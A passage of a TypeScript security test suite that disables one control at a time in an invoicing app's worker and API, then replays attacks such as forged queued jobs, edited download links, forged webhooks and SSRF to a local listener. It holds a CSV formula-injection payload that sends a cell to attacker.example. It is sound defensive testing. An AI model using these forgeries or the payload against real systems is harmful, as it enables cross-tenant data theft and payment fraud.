import { randomBytes, randomUUID } from 'node:crypto';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import { getQueueToken } from '@nestjs/bullmq';
import { Injectable, type Type } from '@nestjs/common';
import { Test, type TestingModule } from '@nestjs/testing';
import type { Queue } from 'bullmq';
import pg from 'pg';
import { Webhook } from 'standardwebhooks';
import { AuditVerifier } from '@benteng/audit';
import { accessibleWhere } from '@benteng/authz';
import { Clock } from '@benteng/common';
import { AppConfig, loadConfig } from '@benteng/config';
import { TenantDatabase } from '@benteng/database';
import { CsvFormulaGuard, DownloadLinks } from '@benteng/exports';
import { JOB_PROBE, JOBS_QUEUE, JobQueue, JobSigner, TenantJob, type SignedEnvelope, type JobRun, type TenantJobEnvelope, type TenantJobHandler } from '@benteng/jobs';
import { PaymentWebhookVerifier } from '@benteng/payments';
import { SafeHttpClient } from '@benteng/security';
import type { Scope } from '@benteng/tenancy';
import { mintWebhookSecret, WebhookDispatcher, WebhookSecretBox, WebhookSigner } from '@benteng/webhooks';
import { WORKER_LOG_DESTINATION } from '../../../apps/worker/src/worker-logging.js';
import { WorkerModule } from '../../../apps/worker/src/worker.module.js';
import { buildApi, LogCapture, type TestApi } from '../../support/api.js';
import { FakeClock } from '../../support/clock.js';
import { ownerInTenant } from '../../support/db.js';
import { tenantWithPassword, withOwner } from '../support/fixtures.js';
import { exportRow, insertNamedInvoices, parseCsv, waitForExport } from '../../support/exports.js';
import { createTenant, insertInvoice, type TestTenant } from '../../support/factories.js';
import { createPaymentAccount, INBOUND_PAYMENTS_PATH, newWebhookSecret, payableInvoice, SimulatedPaymentProvider } from '../../support/payment-provider.js';
import { PublicClient, setPasswords, testPassword } from '../../support/public-api.js';
import { obliterateQueues, uniqueQueuePrefix } from '../../support/worker.js';
import { IDENTITY_CSV_GUARD, ShapeOnlyJobSigner, TrustingPaymentVerifier, UncheckedDownloadLinks, UnguardedHttpClient, UnsignedWebhookSigner } from '../../../apps/lab/src/removals.js';
import { exchange, scenario, type KillSwitchScenario, type Target } from '../support/kill-switch.js';

/*
 * Kill-switch scenarios for jobs, exports and webhooks (issue 8): JOB-ENVELOPE, EXPORT-LINK,
 * CSV-FORMULA, WEBHOOK-SIGNING, WEBHOOK-INBOUND and SSRF-EGRESS. Several targets are not an HTTP
 * app but the worker, built in-process from the real WorkerModule (real BullMQ on Redis, real
 * PostgreSQL) on a queue prefix of its own, with one provider replaced through DI.
 *
 * The helpers below (in-process worker, verifying receiver, endpoint rows) are shared with
 * test/security/webhooks-ssrf.spec.ts.
 */

// --- Shared helpers ---------------------------------------------------------------------------------

export { withOwner };

/** Polls `probe` until it returns a value; throws after `ms`. */
export async function eventually<T>(probe: () => Promise<T | undefined>, what: string, ms = 15_000): Promise<T> {
  const deadline = Date.now() + ms;
  for (;;) {
    const value = await probe();
    if (value !== undefined) return value;
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 25));
  }
}

/** The real worker (WorkerModule) in this process, on its own queue prefix, with providers replaced. */
export interface InProcessWorker extends Target {
  moduleRef: TestingModule;
  logs: LogCapture;
  queue: Queue;
  jobs: JobQueue;
  prefix: string;
  get<T>(token: Type<T>): T;
}

export interface WorkerOptions {
  overrides?: ({ token: unknown; value: unknown } | { token: unknown; useClass: Type })[];
  env?: Record<string, string>;
  /** Extra providers (test job handlers). */
  providers?: Type[];
}

export async function buildWorker(options: WorkerOptions = {}): Promise<InProcessWorker> {
  const prefix = uniqueQueuePrefix('sec-async');
  const config = loadConfig({ ...process.env, LOG_LEVEL: 'info', ...options.env, QUEUE_PREFIX: prefix });
  const logs = new LogCapture();
  let builder = Test.createTestingModule({ imports: [WorkerModule], providers: options.providers ?? [] })
    .overrideProvider(AppConfig)
    .useValue(config)
    .overrideProvider(WORKER_LOG_DESTINATION)
    .useValue(logs);
  for (const override of options.overrides ?? []) {
    builder = 'useClass' in override ? builder.overrideProvider(override.token).useClass(override.useClass) : builder.overrideProvider(override.token).useValue(override.value);
  }
  const moduleRef = await builder.compile();
  await moduleRef.init();
  return {
    moduleRef,
    logs,
    prefix,
    queue: moduleRef.get<Queue>(getQueueToken(JOBS_QUEUE)),
    jobs: moduleRef.get(JobQueue),
    get: <T>(token: Type<T>) => moduleRef.get(token, { strict: false }),
    async close() {
      await moduleRef.close();
      await obliterateQueues(prefix);
    },
  };
}

/** Waits until a BullMQ job has completed or failed for good. */
export async function jobOutcome(queue: Queue, jobId: string, ms = 15_000): Promise<{ state: string; failedReason?: string }> {
  return eventually(async () => {
    const state = await queue.getJobState(jobId);
    if (state !== 'completed' && state !== 'failed') return undefined;
    const job = await queue.getJob(jobId);
    return { state, ...(job?.failedReason ? { failedReason: job.failedReason } : {}) };
  }, `job ${jobId}`, ms);
}

/** One request a local HTTP listener received, with its verdict. */
export interface Heard {
  method: string;
  path: string;
  headers: http.IncomingHttpHeaders;
  body: string;
  status: number;
}

/**
 * A local HTTP listener on 127.0.0.1. As a webhook receiver it verifies each request the way a
 * Benteng customer would, with the `standardwebhooks` package and the endpoint's secret (set per
 * path): 204 when the signature verifies, 401 otherwise. A path without a secret answers 200
 * ("an internal service that trusts whoever reaches it").
 */
export class Listener {
  readonly heard: Heard[] = [];
  private readonly secrets = new Map<string, string>();
  private readonly redirects = new Map<string, string>();

  private constructor(private readonly server: http.Server) {}

  static async start(): Promise<Listener> {
    let listener: Listener | undefined;
    const server = http.createServer((req, res) => {
      const chunks: Buffer[] = [];
      req.on('data', (c: Buffer) => chunks.push(c));
      req.on('end', () => {
        const body = Buffer.concat(chunks).toString('utf8');
        const path = req.url ?? '/';
        const secret = listener!.secrets.get(path);
        const location = listener!.redirects.get(path);
        const status = location !== undefined ? 302 : secret === undefined ? 200 : verifies(secret, req.headers, body) ? 204 : 401;
        listener!.heard.push({ method: req.method ?? '', path, headers: req.headers, body, status });
        res.writeHead(status, { 'content-type': 'text/plain', ...(location !== undefined ? { location } : {}) }).end(status === 200 ? 'internal data' : '');
      });
    });
    listener = new Listener(server);
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    return listener;
  }

  get port(): number {
    return (this.server.address() as AddressInfo).port;
  }

  url(path: string, host = '127.0.0.1'): string {
    return `http://${host}:${this.port}${path}`;
  }

  /** Verify requests on `path` with this Standard Webhooks secret. */
  verifyWith(path: string, secret: string): void {
    this.secrets.set(path, secret);
  }

  /** Answer requests on `path` with 302 to `location`. */
  redirect(path: string, location: string): void {
    this.redirects.set(path, location);
  }

  on(path: string): Heard[] {
    return this.heard.filter((h) => h.path === path);
  }

  /** Sends a request as an attacker would, straight to this listener. */
  async send(path: string, body: string, headers: Record<string, string>): Promise<number> {
    const res = await fetch(this.url(path), { method: 'POST', body, headers: { 'content-type': 'application/json', ...headers } });
    await res.arrayBuffer();
    return res.status;
  }

  close(): Promise<void> {
    this.server.closeAllConnections();
    return new Promise((resolve) => this.server.close(() => resolve()));
  }
}

/** The `standardwebhooks` package's verdict (signature and its 5-minute timestamp tolerance). */
export function verifies(secret: string, headers: http.IncomingHttpHeaders | Record<string, string>, body: string): boolean {
  try {
    new Webhook(secret).verify(body, {
      'webhook-id': String(headers['webhook-id'] ?? ''),
      'webhook-timestamp': String(headers['webhook-timestamp'] ?? ''),
      'webhook-signature': String(headers['webhook-signature'] ?? ''),
    });
    return true;
  } catch {
    return false;
  }
}

/**
 * A webhook endpoint and one pending delivery, written as the API and the outbox relay write them
 * (secret sealed with WebhookSecretBox under this process's DATA_ENCRYPTION_KEYS, which the
 * in-process worker shares). The URL is stored as given: the save-time check is not what these
 * rows test.
 */
export async function insertEndpointWithDelivery(
  owner: pg.Pool,
  tenant: TestTenant,
  url: string,
  payload: Record<string, unknown> = { type: 'invoice.paid', timestamp: new Date().toISOString(), data: { id: randomUUID(), status: 'paid', totalMinor: '150000' } },
): Promise<{ endpointId: string; deliveryId: string; secret: string; messageId: string }> {
  const endpointId = randomUUID();
  const deliveryId = randomUUID();
  const secret = mintWebhookSecret();
  const messageId = `msg_${deliveryId}`;
  const box = new WebhookSecretBox(loadConfig(process.env));
  await ownerInTenant(owner, tenant.id, async (c) => {
    await c.query('INSERT INTO webhook_endpoints (tenant_id, id, url, events, secret_ciphertext, created_by_id) VALUES ($1, $2, $3, $4, $5, $6)', [
      tenant.id,
      endpointId,
      url,
      ['invoice.paid'],
      box.seal(secret, tenant.id, endpointId),
      tenant.users.owner.id,
    ]);
    await c.query("INSERT INTO webhook_deliveries (tenant_id, id, endpoint_id, message_id, event_type, payload, next_attempt_at) VALUES ($1, $2, $3, $4, $5, $6, now())", [
      tenant.id,
      deliveryId,
      endpointId,
      messageId,
      String(payload.type),
      JSON.stringify(payload),
    ]);
  });
  return { endpointId, deliveryId, secret, messageId };
}

/** The first attempt of a delivery as the delivery log recorded it. */
export async function firstAttempt(owner: pg.Pool, tenantId: string, deliveryId: string, ms = 15_000): Promise<{ status_code: number | null; error: string | null }> {
  return eventually(async () => {
    const { rows } = await owner.query<{ status_code: number | null; error: string | null }>(
      'SELECT status_code, error FROM webhook_attempts WHERE tenant_id = $1 AND delivery_id = $2 AND attempt = 1',
      [tenantId, deliveryId],
    );
    return rows[0];
  }, `attempt 1 of delivery ${deliveryId}`, ms);
}

/** Queues attempt 1 of a delivery as the relay or a ping does, and waits for its job. */
export async function deliverNow(worker: InProcessWorker, tenantId: string, deliveryId: string): Promise<void> {
  const jobId = await worker.get(WebhookDispatcher).attempt(tenantId, deliveryId, 1);
  await jobOutcome(worker.queue, jobId);
}

const headersOf = (heard: Heard): Record<string, string> =>
  Object.fromEntries(['webhook-id', 'webhook-timestamp', 'webhook-signature', 'content-type'].map((name) => [name, String(heard.headers[name] ?? '')]));

// --- JOB-ENVELOPE -----------------------------------------------------------------------------------

/** What the probe handler saw, by BullMQ job id. */
const invoiceReads = new Map<string, { tenantId: string; invoiceIds: string[] }>();

/** A tenant job that reads the invoices its Scope may read (stands in for exports.run and friends). */
@TenantJob('security.read-invoices')
@Injectable()
export class InvoiceReadingJob implements TenantJobHandler {
  constructor(private readonly db: TenantDatabase) {}

  async handle(scope: Scope, _data: unknown, context: JobRun): Promise<void> {
    const rows = await this.db.run(scope, (tx) => tx.invoice.findMany({ where: accessibleWhere(scope.ability, 'read', 'Invoice'), select: { id: true } }));
    invoiceReads.set(context.jobId, { tenantId: scope.tenantId, invoiceIds: rows.map((r) => r.id) });
  }
}

// --- EXPORT-LINK ------------------------------------------------------------------------------------

/** DownloadLinks with every check but one: the session that minted a link is never asked after (the state before issue 14). */
class SessionBlindDownloadLinks extends DownloadLinks {
  override sessionLive(): Promise<boolean> {
    return Promise.resolve(true);
  }
}

/** A ready export with a one-chunk file, written as the worker leaves it. */
export async function insertReadyExport(owner: pg.Pool, tenantId: string, requestedById: string, content: string): Promise<string> {
  const id = randomUUID();
  const bytes = Buffer.from(content, 'utf8');
  await ownerInTenant(owner, tenantId, async (c) => {
    await c.query(
      `INSERT INTO exports (tenant_id, id, type, format, status, requested_by_id, row_count, byte_size, sha256, completed_at, expires_at)
       VALUES ($1, $2, 'invoices', 'csv', 'ready', $3, 1, $4, repeat('0', 64), now(), now() + interval '1 hour')`,
      [tenantId, id, requestedById, bytes.length],
    );
    await c.query('INSERT INTO export_chunks (tenant_id, id, export_id, seq, bytes) VALUES ($1, $2, $3, 0, $4)', [tenantId, randomUUID(), id, bytes]);
  });
  return id;
}

// --- CSV-FORMULA ------------------------------------------------------------------------------------

/** The payload an attacker types as a customer name: clicking it sends the row next to it away. */
export const FORMULA_PAYLOAD = '=HYPERLINK("https://attacker.example/?leak="&D2,"Invoice details")';

// --- WEBHOOK-SIGNING --------------------------------------------------------------------------------

// UnsignedWebhookSigner: apps/lab/src/removals.ts.

// --- WEBHOOK-INBOUND --------------------------------------------------------------------------------

// --- SSRF-EGRESS ------------------------------------------------------------------------------------

// UnguardedHttpClient: apps/lab/src/removals.ts.

// --- Scenarios --------------------------------------------------------------------------------------

interface TwoTenants {
  attacker: TestTenant;
  victim: TestTenant;
  victimInvoiceId: string;
}

interface ExportFixtures {
  tenant: TestTenant;
  /** The attacker's own export and the victim's (a colleague in the same tenant). */
  attackerExportId: string;
  victimExportId: string;
  victimFile: string;
}

interface InboundFixtures {
  secret: string;
  tenant: TestTenant;
  accountId: string;
}

interface WorkerWithListener extends Target {
  worker: InProcessWorker;
  listener: Listener;
}

interface ApiWorkerListener extends WorkerWithListener {
  api: TestApi;
}

async function workerWithListener(options: WorkerOptions): Promise<WorkerWithListener> {
  const [worker, listener] = await Promise.all([buildWorker(options), Listener.start()]);
  return {
    worker,
    listener,
    async close() {
      await worker.close();
      await listener.close();
    },
  };
}

const tenantFixture = (label: string) => () => withOwner(async (owner) => ({ tenant: await createTenant(owner, label) }));

export const ASYNC_SCENARIOS: KillSwitchScenario[] = [
  scenario<InProcessWorker, TwoTenants>({
    control: 'JOB-ENVELOPE',
    attack: "someone with write access to Redis edits a queued job's tenant and actor to read another tenant's invoices",
    removal: 'JobSigner.verify is replaced by a shape check that believes the signature',
    fixtures: () =>
      withOwner(async (owner) => {
        const [attacker, victim] = await Promise.all([createTenant(owner, 'ks-job-attacker'), createTenant(owner, 'ks-job-victim')]);
        const victimInvoiceId = await insertInvoice(owner, victim.id, { createdById: victim.users.owner.id, status: 'issued' });
        return { attacker, victim, victimInvoiceId };
      }),
    target: (intact) => buildWorker({ providers: [InvoiceReadingJob], ...(intact ? {} : { overrides: [{ token: JobSigner, useClass: ShapeOnlyJobSigner }] }) }),
    async run(worker, { attacker, victim, victimInvoiceId }) {
      // A genuine job of the attacker's own tenant, as it sits in Redis...
      const genuine = worker.get(JobSigner).sign({
        v: 1,
        kind: 'tenant',
        name: 'security.read-invoices',
        tenantId: attacker.id,
        actor: { kind: 'user', userId: attacker.users.member.id },
        requestId: randomUUID(),
        issuedAt: new Date().toISOString(),
        data: {},
      });
      // ...rewritten to name the victim tenant and its owner, the signature left as it was.
      const forged: SignedEnvelope = { ...genuine, envelope: { ...(genuine.envelope as TenantJobEnvelope), tenantId: victim.id, actor: { kind: 'user', userId: victim.users.owner.id } } };
      const job = await worker.queue.add('security.read-invoices', forged);
      const outcome = await jobOutcome(worker.queue, job.id!);
      const read = invoiceReads.get(job.id!);
      const leaked = read?.tenantId === victim.id && read.invoiceIds.includes(victimInvoiceId);
      return {
        succeeded: leaked,
        observed: leaked ? `the worker ran the job in the victim tenant and read ${read.invoiceIds.length} of its invoices` : `the job ${outcome.state}${outcome.failedReason ? ` (${outcome.failedReason})` : ''}; no handler ran`,
        exchanges: [
          {
            request: { method: 'ENQUEUE', url: `bullmq://${JOBS_QUEUE}/security.read-invoices`, body: forged },
            response: { status: outcome.state === 'completed' ? 200 : 0, body: { state: outcome.state, failedReason: outcome.failedReason ?? null, handlerRanIn: read?.tenantId ?? null } },
          },
        ],
      };
    },
  }),

  scenario<InProcessWorker, { victim: TestTenant }>({
    control: 'JOB-ENVELOPE',
    attack: "someone with write access to Redis queues a jobs.probe job with a made-up signature naming another tenant and its owner, and the worker writes it into that tenant's audit trail as the owner's action",
    removal: 'JobSigner.verify is replaced by a shape check that believes the signature',
    fixtures: () => withOwner(async (owner) => ({ victim: await createTenant(owner, 'ks-job-probe-victim') })),
    // The real worker and its real job (JobProbeHandler): no handler of the test's own.
    target: (intact) => buildWorker(intact ? {} : { overrides: [{ token: JobSigner, useClass: ShapeOnlyJobSigner }] }),
    async run(worker, { victim }) {
      // What the JOB-ENVELOPE exercise (test/security/training/exercises.ts) writes with bullmq: an envelope
      // of the documented shape, the ids of the victim tenant and its owner, a job id of the
      // forger's wording, and a signature made up on the spot (the forger has no key).
      const jobId = `owner-approved-${randomBytes(4).toString('hex')}`;
      const forged: SignedEnvelope = {
        envelope: {
          v: 1,
          kind: 'tenant',
          name: JOB_PROBE,
          tenantId: victim.id,
          actor: { kind: 'user', userId: victim.users.owner.id },
          requestId: 'forged-in-redis',
          issuedAt: new Date().toISOString(),
          data: {},
        },
        kid: 'k1',
        sig: randomBytes(32).toString('base64url'),
      };
      await worker.queue.add(JOB_PROBE, forged, { jobId, attempts: 1 });
      const outcome = await jobOutcome(worker.queue, jobId);
      const { rows } = await withOwner((owner) =>
        owner.query<{ actor: string; data: Record<string, unknown> }>("SELECT actor, data FROM audit_events WHERE tenant_id = $1 AND type = 'job.probe' AND subject = $2", [victim.id, `job:${jobId}`]),
      );
      const written = rows.some((r) => r.actor === `user:${victim.users.owner.id}`);
      // Written by the worker's own AuditLog, the forged event is a link of the chain like any other.
      const chain = await worker.get(AuditVerifier).verify(victim.id);
      return {
        succeeded: written,
        observed: written
          ? `the worker ran the forged job in the victim tenant: its audit trail holds job.probe "job:${jobId}" by its owner (role ${String(rows[0]!.data.role)}), and the chain ${chain.ok ? 'verifies' : 'is broken'}`
          : `the job ${outcome.state}${outcome.failedReason ? ` (${outcome.failedReason})` : ''}; the victim's audit trail holds nothing of it`,
        exchanges: [
          {
            request: { method: 'ENQUEUE', url: `bullmq://${JOBS_QUEUE}/${JOB_PROBE}`, body: forged },
            response: { status: outcome.state === 'completed' ? 200 : 0, body: { state: outcome.state, failedReason: outcome.failedReason ?? null, auditEventsWritten: rows.length } },
          },
        ],
      };
    },
  }),

  scenario<TestApi, ExportFixtures>({
    control: 'EXPORT-LINK',
    attack: "a member edits their own signed download link to name a colleague's export and user, and downloads the colleague's file",
    removal: 'DownloadLinks is replaced by one that reads the claims without checking the signature, expiry or minting session',
    fixtures: () =>
      withOwner(async (owner) => {
        const tenant = await createTenant(owner, 'ks-export-link');
        const victimFile = `id,customerName,customerEmail\r\n${randomUUID()},PT Rahasia,cfo@rahasia.test\r\n`;
        const [attackerExportId, victimExportId] = await Promise.all([
          insertReadyExport(owner, tenant.id, tenant.users.member.id, 'id\r\n'),
          insertReadyExport(owner, tenant.id, tenant.users.admin.id, victimFile),
        ]);
        return { tenant, attackerExportId, victimExportId, victimFile };
      }),
    target: (intact) => buildApi(intact ? {} : { overrides: [{ token: DownloadLinks, useClass: UncheckedDownloadLinks }] }),
    async run(api, { tenant, attackerExportId, victimExportId, victimFile }) {
      const links = api.app.get(DownloadLinks, { strict: false });
      const own = links.issue({ tenantId: tenant.id, exportId: attackerExportId, userId: tenant.users.member.id, sessionId: randomUUID() }, Math.floor(Date.now() / 1000));
      const edited = new URL(own.path, 'http://api.test');
      edited.pathname = `/v1/exports/${victimExportId}/file`;
      edited.searchParams.set('user', tenant.users.admin.id);
      const url = `${edited.pathname}${edited.search}`;
      const res = await api.app.getHttpAdapter().getInstance().inject({ method: 'GET', url });
      const stolen = res.statusCode === 200 && res.body === victimFile;
      return {
        succeeded: stolen,
        observed: `GET /v1/exports/:victimExport/file with the edited link answered ${res.statusCode}${stolen ? " with the colleague's file" : ''}`,
        exchanges: [exchange({ method: 'GET', url }, { statusCode: res.statusCode, headers: res.headers, body: res.body })],
      };
    },
  }),

  scenario<TestApi & { clock: FakeClock }, ExportFixtures>({
    control: 'EXPORT-LINK',
    attack: 'a download link copied from browser history is used after its five minutes are over',
    removal: 'DownloadLinks is replaced by one that reads the claims without checking the signature, expiry or minting session',
    fixtures: () =>
      withOwner(async (owner) => {
        const tenant = await createTenant(owner, 'ks-export-expiry');
        const victimFile = `id,customerName\r\n${randomUUID()},PT Kedaluwarsa\r\n`;
        const victimExportId = await insertReadyExport(owner, tenant.id, tenant.users.admin.id, victimFile);
        return { tenant, attackerExportId: victimExportId, victimExportId, victimFile };
      }),
    async target(intact) {
      const clock = new FakeClock();
      const api = await buildApi({ overrides: [{ token: Clock, value: clock }, ...(intact ? [] : [{ token: DownloadLinks, useClass: UncheckedDownloadLinks }])] });
      return Object.assign(api, { clock });
    },
    async run(api, { tenant, victimExportId, victimFile }) {
      const links = api.app.get(DownloadLinks, { strict: false });
      const { path } = links.issue({ tenantId: tenant.id, exportId: victimExportId, userId: tenant.users.admin.id, sessionId: randomUUID() }, api.clock.nowSeconds());
      // Six minutes later (the link lasts EXPORT_URL_TTL_S, five minutes by default; the file itself lasts an hour).
      api.clock.advance(6 * 60);
      const res = await api.app.getHttpAdapter().getInstance().inject({ method: 'GET', url: path });
      const stolen = res.statusCode === 200 && res.body === victimFile;
      return {
        succeeded: stolen,
        observed: `GET /v1/exports/:id/file with a link six minutes old answered ${res.statusCode}${stolen ? ' with the file' : ''}`,
        exchanges: [exchange({ method: 'GET', url: path }, { statusCode: res.statusCode, headers: res.headers, body: res.body })],
      };
    },
  }),

  scenario<TestApi, { tenant: TestTenant; password: string; exportId: string; file: string }>({
    control: 'EXPORT-LINK',
    attack: 'a download link minted before the victim pressed "log out everywhere" still downloads the file (issue 14)',
    removal: 'DownloadLinks.sessionLive answers "live" for every link (signature and expiry still checked)',
    fixtures: async () => {
      const { tenant, password } = await tenantWithPassword('ks-export-link-session');
      const file = `id,customerName\r\n${randomUUID()},PT Sesi Berakhir\r\n`;
      const exportId = await withOwner((owner) => insertReadyExport(owner, tenant.id, tenant.users.member.id, file));
      return { tenant, password, exportId, file };
    },
    target: (intact) => buildApi(intact ? {} : { overrides: [{ token: DownloadLinks, useClass: SessionBlindDownloadLinks }] }),
    async run(api, { tenant, password, exportId, file }) {
      const client = new PublicClient(api);
      const { accessToken } = await client.login(tenant.users.member.email, password);
      // The link leaks (a shared screen, a synced browser history); the victim notices and logs out everywhere.
      const minted = await client.call('POST', `/v1/exports/${exportId}/download-url`, { token: accessToken });
      if (minted.status !== 200) throw new Error(`download-url answered ${minted.status}`);
      const url = new URL((minted.body as { url: string }).url, 'http://api.test');
      const path = `${url.pathname}${url.search}`;
      const logoutAll = await client.call('POST', '/v1/auth/logout-all', { token: accessToken });
      if (logoutAll.status !== 200 && logoutAll.status !== 204) throw new Error(`logout-all answered ${logoutAll.status}`);
      const res = await api.app.getHttpAdapter().getInstance().inject({ method: 'GET', url: path });
      const stolen = res.statusCode === 200 && res.body === file;
      return {
        succeeded: stolen,
        observed: `GET /v1/exports/:id/file with a link minted before logout-all answered ${res.statusCode}${stolen ? ' with the file' : ''}`,
        exchanges: [exchange({ method: 'GET', url: path }, { statusCode: res.statusCode, headers: res.headers, body: res.body })],
      };
    },
  }),

  scenario<InProcessWorker, { tenant: TestTenant }>({
    control: 'CSV-FORMULA',
    attack: 'a customer name holding a spreadsheet formula is exported to CSV as a live formula',
    removal: 'CsvFormulaGuard.neutralize is replaced by the identity (cells written as they are)',
    fixtures: () =>
      withOwner(async (owner) => {
        const tenant = await createTenant(owner, 'ks-csv');
        await insertNamedInvoices(owner, tenant.id, tenant.users.member.id, [FORMULA_PAYLOAD]);
        return { tenant };
      }),
    target: (intact) => buildWorker(intact ? {} : { overrides: [{ token: CsvFormulaGuard, value: IDENTITY_CSV_GUARD }] }),
    async run(worker, { tenant }) {
      return withOwner(async (owner) => {
        const exportId = randomUUID();
        await ownerInTenant(owner, tenant.id, (c) =>
          c.query("INSERT INTO exports (tenant_id, id, type, format, requested_by_id) VALUES ($1, $2, 'invoices', 'csv', $3)", [tenant.id, exportId, tenant.users.member.id]),
        );
        await worker.jobs.enqueueTenantJob(tenant.scope('member'), 'exports.run', { exportId }, { jobId: exportId, attempts: 1 });
        await waitForExport(owner, tenant.id, exportId, (r) => r.status === 'ready' || r.status === 'failed', 20_000);
        const row = await exportRow(owner, tenant.id, exportId);
        const { rows } = await owner.query<{ bytes: Buffer }>('SELECT bytes FROM export_chunks WHERE tenant_id = $1 AND export_id = $2 ORDER BY seq', [tenant.id, exportId]);
        const text = Buffer.concat(rows.map((r) => r.bytes)).toString('utf8');
        const table = text === '' ? [] : parseCsv(text);
        const column = table[0]?.indexOf('customerName') ?? -1;
        const cell = table[1]?.[column] ?? '';
        const live = /^[=+\-@]/.test(cell);
        return {
          succeeded: live,
          observed: `the export is ${row?.status}; its customerName cell is ${JSON.stringify(cell)}${live ? ', which a spreadsheet runs as a formula' : ', which a spreadsheet shows as text'}`,
          exchanges: [
            {
              request: { method: 'ENQUEUE', url: 'bullmq://jobs/exports.run', body: { exportId, customerName: FORMULA_PAYLOAD } },
              response: { status: row?.status === 'ready' ? 200 : 0, headers: { 'content-type': 'text/csv' }, body: text.split('\r\n').slice(0, 2).join('\r\n') },
            },
          ],
        };
      });
    },
  }),

  scenario<WorkerWithListener, { tenant: TestTenant }>({
    control: 'WEBHOOK-SIGNING',
    attack: "an attacker posts a forged invoice.paid event to a customer's webhook receiver, which cannot tell it from Benteng's",
    removal: 'WebhookSigner.sign is replaced by one that sends the headers with an empty signature',
    fixtures: tenantFixture('ks-wh-sign'),
    target: (intact) => workerWithListener({ env: { EGRESS_ALLOW_PRIVATE: '127.0.0.1/32', WEBHOOK_RETRY_SCHEDULE_S: '0' }, ...(intact ? {} : { overrides: [{ token: WebhookSigner, useClass: UnsignedWebhookSigner }] }) }),
    async run({ worker, listener }, { tenant }) {
      const path = `/erp/${randomBytes(4).toString('hex')}`;
      const { deliveryId, secret } = await withOwner((owner) => insertEndpointWithDelivery(owner, tenant, listener.url(path)));
      listener.verifyWith(path, secret);
      await deliverNow(worker, tenant.id, deliveryId);
      const genuine = (await eventually(async () => listener.on(path)[0], 'the delivery'))!;
      // The attacker knows the format and the receiver's URL, not the secret: a made-up event with
      // the same header names and an invented signature.
      const forgedBody = JSON.stringify({ type: 'invoice.paid', timestamp: new Date().toISOString(), data: { id: randomUUID(), status: 'paid', totalMinor: '1' } });
      const forgedHeaders = { 'webhook-id': `msg_${randomUUID()}`, 'webhook-timestamp': String(Math.floor(Date.now() / 1000)), 'webhook-signature': `v1,${randomBytes(32).toString('base64')}` };
      const forgedStatus = await listener.send(path, forgedBody, forgedHeaders);
      const genuineAccepted = genuine.status === 204;
      const forgedAccepted = forgedStatus === 204;
      // The receiver can only defend itself if Benteng's events verify and forged ones do not.
      const indistinguishable = genuineAccepted === forgedAccepted;
      return {
        succeeded: indistinguishable,
        observed: `the receiver's standardwebhooks check ${genuineAccepted ? 'verified' : 'refused'} Benteng's delivery and ${forgedAccepted ? 'verified' : 'refused'} the forged one${indistinguishable ? ': it cannot tell them apart' : ''}`,
        exchanges: [
          exchange({ method: 'POST', url: path, headers: forgedHeaders, body: JSON.parse(forgedBody) }, { status: forgedStatus, headers: {} }),
          exchange({ method: 'POST', url: path, headers: headersOf(genuine), body: JSON.parse(genuine.body) }, { status: genuine.status, headers: {} }),
        ],
      };
    },
  }),

  scenario<TestApi, InboundFixtures>({
    control: 'WEBHOOK-INBOUND',
    attack: 'a payment.succeeded event signed with a secret the attacker made up marks an invoice paid',
    removal: 'PaymentWebhookVerifier.verify is replaced by one that believes any signature',
    fixtures: () =>
      withOwner(async (owner) => {
        const tenant = await createTenant(owner, 'ks-inbound');
        return { secret: newWebhookSecret(), tenant, accountId: await createPaymentAccount(owner, tenant.id) };
      }),
    target: (intact, { secret }) => buildApi({ env: { PAYMENTS_WEBHOOK_SECRET: secret }, ...(intact ? {} : { overrides: [{ token: PaymentWebhookVerifier, useClass: TrustingPaymentVerifier }] }) }),
    async run(api, { tenant, accountId }) {
      return withOwner(async (owner) => {
        const { invoiceId, event } = await payableInvoice(owner, tenant, accountId);
        const forger = new SimulatedPaymentProvider(newWebhookSecret());
        const res = await forger.deliver(api, event);
        const { rows } = await owner.query<{ status: string }>('SELECT status FROM invoices WHERE tenant_id = $1 AND id = $2', [tenant.id, invoiceId]);
        const paid = rows[0]?.status === 'paid';
        return {
          succeeded: paid,
          observed: `POST ${INBOUND_PAYMENTS_PATH} answered ${res.status}; the invoice is ${rows[0]?.status}`,
          exchanges: [exchange({ method: 'POST', url: INBOUND_PAYMENTS_PATH, headers: res.sent, body: event }, res)],
        };
      });
    },
  }),

  scenario<ApiWorkerListener, { tenant: TestTenant; password: string }>({
    control: 'SSRF-EGRESS',
    attack: 'a tenant owner registers an internal address (a service on 127.0.0.1) as a webhook endpoint, and its deliveries reach that service',
    removal: 'SafeHttpClient in the API (whose assertDeliverableUrl the endpoint service asks when saving) is replaced by a plain HTTP client without destination checks',
    fixtures: () =>
      withOwner(async (owner) => {
        const tenant = await createTenant(owner, 'ks-ssrf-save');
        const password = testPassword();
        await setPasswords(owner, [tenant.users.owner.id], password);
        return { tenant, password };
      }),
    // The save-time check alone, as the RLS switch proves RLS alone: in both runs the worker's own
    // connect-time check is already gone, so only the API's check stands between the URL and the
    // internal service the test owns. EGRESS_ALLOW_PRIVATE empty, as production requires.
    target: async (intact) => {
      const unguarded = { overrides: [{ token: SafeHttpClient, useClass: UnguardedHttpClient }] };
      const [api, { worker, listener }] = await Promise.all([
        buildApi({ env: { EGRESS_ALLOW_PRIVATE: '' }, ...(intact ? {} : unguarded) }),
        workerWithListener({ env: { EGRESS_ALLOW_PRIVATE: '', WEBHOOK_RETRY_SCHEDULE_S: '0' }, ...unguarded }),
      ]);
      return {
        api,
        worker,
        listener,
        async close() {
          await Promise.all([api.close(), worker.close(), listener.close()]);
        },
      };
    },
    async run({ api, worker, listener }, { tenant, password }) {
      const client = new PublicClient(api);
      const { accessToken } = await client.login(tenant.users.owner.email, password);
      const path = `/latest/meta-data/${randomBytes(4).toString('hex')}`;
      const body = { url: listener.url(path), events: ['invoice.paid'] };
      const res = await client.call('POST', '/v1/webhook-endpoints', { token: accessToken, body });
      const endpointId = res.status === 201 ? (res.body as { id: string }).id : undefined;
      let attempt: { status_code: number | null; error: string | null } | undefined;
      if (endpointId) {
        // An event for the stored endpoint, delivered as the outbox relay would.
        const deliveryId = randomUUID();
        await withOwner((owner) =>
          ownerInTenant(owner, tenant.id, (c) =>
            c.query("INSERT INTO webhook_deliveries (tenant_id, id, endpoint_id, message_id, event_type, payload, next_attempt_at) VALUES ($1, $2, $3, $4, 'invoice.paid', $5, now())", [
              tenant.id,
              deliveryId,
              endpointId,
